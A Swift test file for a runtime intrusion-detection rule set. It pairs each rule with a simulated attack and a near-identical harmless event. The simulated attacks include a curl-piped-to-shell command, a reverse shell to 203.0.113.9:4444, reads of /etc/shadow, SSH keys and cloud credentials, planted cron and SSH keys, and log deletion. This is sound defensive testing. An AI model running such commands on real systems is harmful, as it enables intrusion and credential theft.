import FalcodCore
import FalcodRules
import FalcodSources
import FalcodSupport
import FalcodTestSupport
import Testing

/// Every shipped rule: a scene in which it alerts, and one so close to it that it must not.
struct OwnRulesTests {
    struct Case: Sendable, CustomTestStringConvertible {
        let rule: String
        let attack: @Sendable (inout Scene) throws -> Void
        let harmless: @Sendable (inout Scene) throws -> Void
        var testDescription: String { rule }
    }

    private static let container = String(repeating: "0123456789abcdef", count: 4)
    private static let sshd: Int64 = 100, nginx: Int64 = 101
    private static let writing = Flag.FileFlags.O_WRONLY | Flag.FileFlags.O_CREAT

    static let rules: [FalcodRules.LoadedRule] = (try? Replay.load([("falcod_rules.yaml", rulesText())])) ?? []

    private static func rulesText() throws -> [UInt8] {
        let here = #filePath.split(separator: "/").dropLast(3).joined(separator: "/")
        return try Files.read("/" + here + "/rules/falcod_rules.yaml")
    }

    @Test func rulesLoad() throws {
        let rules = try Replay.load([("falcod_rules.yaml", try Self.rulesText())])
        #expect(rules.count >= 15)
        for rule in rules {
            #expect(rule.description.count > 40, "\(rule.name) explains itself")
            #expect(rule.tags.contains { $0.hasPrefix("T1") } && rule.tags.contains { $0.hasPrefix("mitre_") }, "\(rule.name) has ATT&CK tags")
        }
    }

    @Test func everyRuleHasACase() {
        #expect(Set(Self.rules.map(\.name)) == Set(Self.cases.map(\.rule)))
    }

    @Test(arguments: cases) func alertsOnTheAttackOnly(_ example: Case) throws {
        var attack = Scene(daemons: ["sshd", "nginx"])
        try example.attack(&attack)
        #expect(try Replay.matches(attack.source, Self.rules).contains(example.rule))
        var harmless = Scene(daemons: ["sshd", "nginx"])
        try example.harmless(&harmless)
        #expect(try !Replay.matches(harmless.source, Self.rules).contains(example.rule))
    }

    @Test func theBundledBreakInAlertsAtEveryStep() throws {
        #expect(try Replay.matches(try BreakIn.scene(), Self.rules, .first) == [
            "Shell started by a server", "Shell with its input from the network", "Password hashes read",
            "Private key read by a foreign program", "SSH key of an account planted", "Scheduled job planted",
            "Program started from memory", "Log or history destroyed",
        ])
    }

    private static func opens(_ path: String, _ flags: UInt32 = Flag.FileFlags.O_RDONLY, as program: String = "/usr/bin/cat",
                              container: String? = nil, error: Int64? = nil) -> @Sendable (inout Scene) throws -> Void {
        { scene in
            try scene.run(program, pid: 300, parent: sshd, container: container)
            try scene.open(path, flags, by: 300, error: error)
        }
    }

    private static func runs(_ path: String, _ args: [String] = [], parent: Int64 = sshd, flags: UInt32 = 0)
        -> @Sendable (inout Scene) throws -> Void {
        { try $0.run(path, args, pid: 300, parent: parent, executableFlags: flags) }
    }

    static let cases: [Case] = [
        Case(rule: "Password hashes read", attack: opens("/etc/shadow"), harmless: opens("/etc/shadow", error: -13)),
        Case(rule: "Private key read by a foreign program", attack: opens("/home/alice/.ssh/id_rsa"),
             harmless: opens("/home/alice/.ssh/id_rsa.pub")),
        Case(rule: "Cloud or cluster credentials read", attack: opens("/root/.aws/credentials"),
             harmless: opens("/root/.aws/credentials", as: "/usr/local/bin/aws")),
        Case(rule: "Memory of another process opened",
             attack: { scene in
                 try scene.run("/usr/bin/inject", pid: 300, parent: sshd)
                 try scene.attach(to: 101, by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/bin/gdb", pid: 300, parent: sshd)
                 try scene.attach(to: 101, by: 300)
             }),
        Case(rule: "SSH key of an account planted", attack: opens("/root/.ssh/authorized_keys", writing),
             harmless: opens("/root/.ssh/authorized_keys")),
        Case(rule: "Scheduled job planted", attack: opens("/etc/cron.d/job", writing), harmless: opens("/etc/cron.d/job", writing, as: "/usr/bin/dpkg")),
        Case(rule: "Library preloaded into every program", attack: opens("/etc/ld.so.preload", writing), harmless: opens("/etc/ld.so.preload")),
        Case(rule: "Program below a system directory written", attack: opens("/usr/bin/ls", writing),
             harmless: opens("/usr/binary/ls", writing)),
        Case(rule: "Set-user-id bit given",
             attack: { scene in
                 try scene.run("/usr/bin/chmod", pid: 300, parent: sshd)
                 try scene.changeMode("/tmp/sh", Flag.ChmodMode.S_ISUID | Flag.ChmodMode.S_IXUSR, by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/bin/chmod", pid: 300, parent: sshd)
                 try scene.changeMode("/tmp/sh", Flag.ChmodMode.S_IXUSR, by: 300)
             }),
        Case(rule: "Kernel module loaded",
             attack: { scene in
                 try scene.run("/tmp/load", pid: 300, parent: sshd)
                 try scene.loadModule(by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/sbin/modprobe", pid: 300, parent: sshd)
                 try scene.loadModule(by: 300)
             }),
        Case(rule: "Container left through a kernel interface",
             attack: opens("/proc/sys/kernel/core_pattern", writing, container: container),
             harmless: opens("/proc/sys/kernel/core_pattern", writing)),
        Case(rule: "Namespace of the host entered from a container",
             attack: { scene in
                 try scene.run("/usr/bin/nsenter", pid: 300, parent: sshd, container: container)
                 try scene.enterNamespace(by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/bin/nsenter", pid: 300, parent: sshd)
                 try scene.enterNamespace(by: 300)
             }),
        Case(rule: "Shell with its input from the network",
             attack: { scene in
                 try scene.fork(parent: nginx, child: 299)
                 let socket = try scene.connect(to: "203.0.113.9", 4444, by: 299)
                 try scene.duplicate(socket, onto: 0, by: 299)
                 try scene.run("/bin/sh", ["-i"], pid: 300, parent: 299)
             },
             harmless: { scene in
                 try scene.fork(parent: nginx, child: 299)
                 let file = try scene.open("/dev/null", by: 299)
                 try scene.duplicate(file, onto: 0, by: 299)
                 try scene.run("/bin/sh", ["-i"], pid: 300, parent: 299)
             }),
        Case(rule: "Shell started by a server", attack: runs("/bin/sh", parent: nginx), harmless: runs("/bin/sh")),
        Case(rule: "Program started from memory", attack: runs("/memfd:x", flags: Flag.ExecveFlags.EXE_FROM_MEMFD),
             harmless: runs("/usr/bin/x")),
        Case(rule: "Program started from a world-writable directory", attack: runs("/dev/shm/x"), harmless: runs("/usr/bin/x")),
        Case(rule: "Download handed to a shell", attack: runs("/bin/sh", ["-c", "curl -s http://203.0.113.9/a | sh"]),
             harmless: runs("/bin/sh", ["-c", "curl -s http://203.0.113.9/a -o /srv/a"])),
        Case(rule: "Log or history destroyed",
             attack: { scene in
                 try scene.run("/usr/bin/rm", pid: 300, parent: sshd)
                 try scene.unlink("/var/log/auth.log", by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/sbin/logrotate", pid: 300, parent: sshd)
                 try scene.unlink("/var/log/auth.log", by: 300)
             }),
        Case(rule: "Cloud metadata asked for credentials",
             attack: { scene in
                 try scene.run("/usr/bin/curl", pid: 300, parent: sshd, container: container)
                 try scene.connect(to: "169.254.169.254", 80, by: 300)
             },
             harmless: { scene in
                 try scene.run("/usr/bin/curl", pid: 300, parent: sshd, container: container)
                 try scene.connect(to: "169.254.169.1", 80, by: 300)
             }),
        Case(rule: "Mining pool contacted", attack: runs("/usr/bin/java", ["-o", "stratum+tcp://pool.example:3333"]),
             harmless: runs("/usr/bin/java", ["-o", "http://pool.example:3333"])),
    ]
}
